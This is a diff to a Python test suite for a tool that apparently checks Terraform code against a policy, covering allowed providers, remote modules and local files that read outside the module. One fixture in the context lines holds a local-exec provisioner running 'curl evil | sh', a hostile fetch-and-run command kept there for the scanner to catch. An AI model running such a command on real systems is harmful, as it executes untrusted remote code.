@@ -45,7 +45,7 @@ def test_all_reasons_are_recorded(tmp_path: Path) -> None:
 module "vpc" { source = "terraform-aws-modules/vpc/aws" }
 module "g" { source = "git::https://example.com/x.git" }
 data "terraform_remote_state" "net" { backend = "s3" }
-resource "random_pet" "p" {}
+data "template_file" "t" { template = "x" }
 resource "null_resource" "n" {
   provisioner "local-exec" { command = "curl evil | sh" }
 }
@@ -178,3 +178,49 @@ def test_service_names() -> None:
     assert service_of("aws_cognito_user_pool") == "cognito-idp"
     assert service_of("aws_iam_policy_document") is None
     assert service_of("random_pet") is None
+
+
+UTILITIES_TF = """
+resource "random_pet" "p" {}
+resource "null_resource" "n" {}
+resource "time_sleep" "t" { create_duration = "1s" }
+resource "tls_private_key" "k" { algorithm = "RSA" }
+resource "local_file" "out" {
+  filename = "${path.module}/build/out.txt"
+  content  = random_pet.p.id
+}
+data "archive_file" "zip" {
+  type        = "zip"
+  source_file = "${path.module}/build/out.txt"
+  output_path = "${path.module}/build/out.zip"
+}
+resource "aws_sqs_queue" "q" { name = random_pet.p.id }
+"""
+
+
+def test_hashicorp_utility_providers_are_allowed_by_default(tmp_path: Path) -> None:
+    write_tree(tmp_path, {"main.tf": UTILITIES_TF})
+    decision = evaluate(tmp_path, tmp_path)
+    assert decision.accepted, decision.reasons
+    assert decision.inventory.providers == ["archive", "aws", "local", "null", "random", "time",
+                                            "tls"]  # fmt: skip
+    only_aws = Policy.from_settings(DiscoverySettings(allowed_providers=["aws"]))
+    assert codes(tmp_path, policy=only_aws) == {"provider_not_allowed"}
+    assert DiscoverySettings().allowed_providers == [
+        "aws", "archive", "local", "null", "random", "time", "tls",
+    ]  # fmt: skip
+
+
+def test_a_local_file_data_source_reads_its_filename(tmp_path: Path) -> None:
+    """local_file the resource writes ``filename``; local_file the data source reads it."""
+    repo = tmp_path / "repo"
+    write_tree(repo, {"app/main.tf": S3_TF + """
+data "local_file" "gone" { filename = "${path.module}/gone.txt" }
+data "local_file" "host" { filename = "/etc/hostname" }
+data "local_file" "here" { filename = "${path.module}/here.txt" }
+""", "app/here.txt": "hi"})  # fmt: skip
+    reasons = evaluate(repo / "app", repo).reasons
+    assert sorted((r.code.value, r.detail.split(" ", 1)[1]) for r in reasons) == [
+        ("missing_file", "filename needs ${path.module}/gone.txt"),
+        ("path_escape", "filename reads /etc/hostname outside"),
+    ]
